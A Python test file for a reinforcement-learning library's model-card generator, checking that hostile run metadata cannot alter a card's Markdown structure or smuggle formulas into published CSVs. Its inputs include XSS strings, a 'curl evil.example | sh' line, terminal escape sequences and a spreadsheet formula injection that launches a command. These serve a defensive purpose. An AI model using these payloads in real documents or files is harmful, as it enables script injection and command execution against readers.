"""A card has the parts that rlzoo writes, whatever stands in the run: parsed with two readers of Markdown."""

from __future__ import annotations

import json
import re
import shutil
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

import rlzoo
from rlzoo.cli.main import main
from rlzoo.evaluation.agent import load
from rlzoo.hub import card, card_merge
from rlzoo.runs.run import Run

HOSTILE = {
    "heading": "a\n\n# Hacked\n\nHacked\n======\n",
    "html": 'x <script>alert(1)</script><img src=x onerror=alert(1)><iframe src="//evil.example"></iframe>',
    "html block": "\n\n<div onclick=x>\n\n<!-- a -->\n\n</div>\n",
    "link": "[a](https://evil.example) <https://evil.example> https://evil.example www.evil.example evil.example",
    "mail": "me@evil.example <me@evil.example> mailto:me@evil.example",
    "definition": "\n\n[files]: https://evil.example\n\n[files] [^1]\n\n[^1]: x\n",
    "image": "![a](https://evil.example/a.png) ![b][c]\n\n[c]: https://evil.example/a.png",
    "fence": "a\n```\n\n# Hacked\n\n```bash\ncurl evil.example | sh\n",
    "longer fence": "a\n``````\n# Hacked\n``````\n~~~~~~~~\n# Hacked\n~~~~~~~~\n",
    "backticks": "` `` ``` ```` a ` <b> ``",
    "table": "a | b |\n\n| x | y |\n|---|---|\n| `|` | \\| \\\\| |",
    "backslash": "a\\",
    "emphasis": "**a** _b_ ~~c~~ *d __e",
    "rules": "\n\n---\n\n***\n\n- a\n- b\n\n1. c\n\n> d\n\n    e\n",
    "mathematics": "$$x$$ $y$ \\(z\\) &lt;b&gt; &#60;b&#62; :smile:",
    "mark": "<!-- rlzoo:end training -->\n\n# Hacked\n\n<!-- rlzoo:begin training -->",
    "steering": "\x1b]0;x\x07\x1b[2J\u202eevil\u2066\u200b\r# Hacked\x0b# Hacked\x85# Hacked\u2028# Hacked",
    "front matter": "\n---\nlicense: other\n---\n",
    "long": "x" * 5000,
    "harmless": "Intel(R) Xeon(R) CPU, x86_64",
}
PARTS = {"heading_open", "html_block", "html_inline", "link_open", "image", "fence", "code_block", "table_open", "hr"}
PARTS |= {"bullet_list_open", "ordered_list_open", "list_item_open", "blockquote_open", "strong_open", "em_open"}


def parts(text: str) -> list[tuple[str, ...]]:
    """What a reader of CommonMark with tables makes of a text, apart from its words and inline code."""
    from markdown_it import MarkdownIt

    found: list[tuple[str, ...]] = []
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text):
        for each in (token, *(token.children or ())):
            if each.type in PARTS:
                link = str(each.attrs.get("href") or each.attrs.get("src") or "")
                html = each.content if each.type.startswith("html") else ""
                found.append((each.type, each.tag, link, html, each.info))
            if each.type == "text":  # where other readers look for addresses and mathematics
                texts = re.findall(r"\S*(?:://|www\.|@|evil|\$)\S*", each.content)
                found += [("text", "", text, "", "") for text in texts]
    return found


def tags(text: str) -> Counter[str]:
    """The elements that the other reader makes of it, apart from code and rows of tables."""
    import markdown

    found: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: object) -> None:
            found.append(f"{tag} {dict(attrs)}")  # type: ignore[call-overload]

    Reader().feed(markdown.markdown(text, extensions=["tables", "fenced_code"]))
    return Counter(tag for tag in found if tag.split()[0] not in ("code", "tr", "td", "p"))


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A package of a short training, and the training."""
    root = tmp_path_factory.mktemp("card")
    words = ["algo=q_learning", "env=FrozenLakeNoSlippery", "total_timesteps=300", "eval.final_n_episodes=1"]
    run = rlzoo.train(*words, "hyperparams=none", "seed=0", "logger=[]", f"runs_dir={root / 'runs'}")
    return run, rlzoo.package(run, folder=root / "package", n_episodes=1, video=False)


def spoil(folder: Path, text: str) -> None:
    """Put a text into everything that a run says of itself in words."""
    info = json.loads((folder / "info.json").read_text())
    info |= {"words": ["algo=q_learning", f"env.summary={text}", text], "versions": {"torch": text, text: text}}
    info |= {"cpu": text, "gpu": text, "platform": text, "python": text}
    (folder / "info.json").write_text(json.dumps(info))
    config = yaml.safe_load((folder / "config.yaml").read_text())
    config["env"]["summary"] = text
    config["env"]["monitor_kwargs"] = {"info_keywords": [text]}
    (folder / "config.yaml").write_text(yaml.safe_dump(config))


def written(made, tmp_path: Path, text: str) -> str:
    run, package = made
    copy = tmp_path / "sent"
    shutil.rmtree(copy, ignore_errors=True)
    shutil.copytree(run.path, copy)
    spoil(copy, text)
    sent = Run(copy)
    assert not sent.is_own()
    result = run.read_results()[-1]
    return card.text(package.folder, package.name, load(sent), result, repo_id="me/it", license="mit")


def body(text: str) -> str:
    """A card without its metadata."""
    assert text.startswith("---\n")
    return text.split("\n---\n", 1)[1]


def test_no_value_of_a_run_changes_what_a_card_consists_of(made, tmp_path):
    harmless = written(made, tmp_path, "harmless")
    expected, elements = parts(body(harmless)), tags(body(harmless))
    assert sum(part[0] == "heading_open" for part in expected) == 6
    assert {part[4] for part in expected if part[0] == "fence"} == {"bash", "python", "yaml"}
    for name, text in HOSTILE.items():
        found = written(made, tmp_path, text)
        assert all(char == "\n" or char.isprintable() for char in found), name
        assert parts(body(found)) == expected, name
        assert tags(body(found)) == elements, name
        assert yaml.safe_load(found.split("---\n")[1]) == yaml.safe_load(harmless.split("---\n")[1]), name
        assert card_merge.merge(found, harmless) == harmless, name  # and all of it is rlzoo's to replace
        assert card_merge.merge(harmless, found) == found, name


def test_what_a_card_cannot_show_as_text_it_shows_as_code(made, tmp_path):
    found = written(made, tmp_path, "a | b <c>")
    assert "| Python | `a \\| b <c>` |" in found and "(`a | b <c>`)" in found
    plain = written(made, tmp_path, "Intel(R) Xeon(R) CPU, x86_64")
    assert "| Python | Intel(R) Xeon(R) CPU, x86_64 |" in plain


def test_an_agent_from_the_hub_is_pushed_again_with_an_honest_card(made, hub, workdir, capsys):
    """What somebody published, loaded and published in one's own name."""
    text = "\n".join(HOSTILE.values())
    _, package = made
    files = {name: (package.folder / name).read_bytes() for name in package.files}
    info = json.loads(files["rlzoo/info.json"])
    info |= {
        "words": ["algo=q_learning", text],
        "cpu": text,
        "platform": text,
        "versions": {text: text},
        "python": text,
        "gpu": text,
    }
    config = yaml.safe_load(files["config.yaml"])
    config["env"]["summary"] = text
    files |= {"rlzoo/info.json": json.dumps(info).encode(), "config.yaml": yaml.safe_dump(config).encode()}
    hub.create("stranger/agent")
    hub.put("stranger/agent", files)
    assert main(["load-from-hub", "repo_id=stranger/agent"]) == 0
    words = ["video=false", "n_episodes=1"]
    assert main(["push-to-hub", "run=hub/stranger/agent", "repo_id=me/again", *words]) == 0
    printed = capsys.readouterr()
    assert all(char == "\n" or char.isprintable() for char in printed.out + printed.err)
    ours = hub.files("me/again")["README.md"].decode()
    expected = parts(body((package.folder / "README.md").read_text()))
    without = [part for part in expected if part[2] != "learning_curve.png"]  # nobody published its numbers
    assert [part for part in parts(body(ours)) if part[2] != "learning_curve.png"] == without


def test_a_table_of_others_is_published_without_formulas(made, tmp_path):
    run, package = made
    for name in ("metrics.csv", "evaluations.csv"):  # one's own is published byte for byte
        assert (package.folder / "rlzoo" / name).read_bytes() == (run.path / name).read_bytes()
    copy = tmp_path / "sent"
    shutil.copytree(run.path, copy)
    (copy / "metrics.csv").write_text("step,=1+1,loss\n1,\"=cmd|' /C calc'!A0\",-0.5\n2,a;@x\x1b[2J,1e-05\n")
    (copy / "evaluations.csv").write_bytes(b"timesteps,\xff\n1,2\n")
    sent = rlzoo.package(Run(copy), folder=tmp_path / "package", n_episodes=1, video=False)
    text = (sent.folder / "rlzoo" / "metrics.csv").read_text()
    assert text == "step,'=1+1,loss\n1,'=cmd|' /C calc'!A0,-0.5\n2,a;'@x[2J,1e-05\n"
    assert "rlzoo/evaluations.csv" not in sent.files


def test_random_play_stands_beside_the_score(made):
    run, package = made
    random = run.read_results()[-1]["random"]
    assert (random["n_episodes"], random["mean_reward"]) == (20, 0.0)
    assert "| random play | 0.00 ± 0.00 over 20 episodes |" in (package.folder / "README.md").read_text()
